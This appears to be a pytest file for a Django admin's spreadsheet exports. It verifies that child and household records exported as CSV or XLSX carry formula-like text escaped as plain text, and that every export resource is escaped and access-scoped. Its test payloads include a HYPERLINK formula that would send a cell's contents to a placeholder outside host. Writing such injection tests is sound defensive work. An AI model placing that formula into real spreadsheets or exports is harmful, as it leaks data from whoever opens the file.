"""Every CSV and XLSX the admin exports writes formula-looking text as text; every resource is covered."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from clts.accounts import access
from clts.core.spreadsheets import SafeExportMixin
from tests import factories as f

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://example.invalid/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)"]


def _export(client, model: str, file_format: str) -> list[list]:
    """The rows of one admin export, through the admin's own export form."""
    url = reverse(f"admin:{model.replace('.', '_')}_export")
    form = client.get(url).context["form"]
    formats = {label.lower(): value for value, label in form.fields["format"].choices}
    data = {"format": formats[file_format], "resource": 0}
    data |= {name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)}
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if file_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_child_and_household_exports_write_formulae_as_text(client, cast, places, file_format):
    case = f.make_case(district=places.gaya)
    child = case.child
    child.name, child.alias, child.father_name, child.languages = PAYLOADS
    child.save()
    household = f.make_household(case)
    household.village_text, household.ration_card_type = PAYLOADS[0], ""
    household.save()
    client.force_login(cast.admin)

    for model, cells in (("rescue.child", PAYLOADS), ("schemes.household", PAYLOADS[:1])):
        rows = _export(client, model, file_format)
        written = {value for row in rows[1:] for value in row if isinstance(value, str)}
        for payload in cells:
            assert "'" + payload in written, (model, payload, written)
            assert payload not in written, (model, payload)
    if file_format == "xlsx":
        # Not one cell of the workbook is a formula.
        rows = _export(client, "rescue.child", "xlsx")
        assert not any(isinstance(value, str) and value.startswith("=") for row in rows for value in row)


def test_every_admin_export_escapes_and_every_personal_resource_is_scoped():
    """A resource added later without the safe base fails here, whatever admin uses it."""
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ExportMixin):
            continue
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, SafeExportMixin), f"{resource.__name__} exports without escaping"
            if isinstance(getattr(model, "scope", None), access.Scope):
                assert issubclass(resource, access.ScopedResourceMixin), f"{resource.__name__} is not scoped"


def test_only_spreadsheet_formats_are_offered(client, cast):
    client.force_login(cast.admin)
    form = client.get(reverse("admin:rescue_child_export")).context["form"]
    assert sorted(label for value, label in form.fields["format"].choices if value != "") == ["csv", "xlsx"]
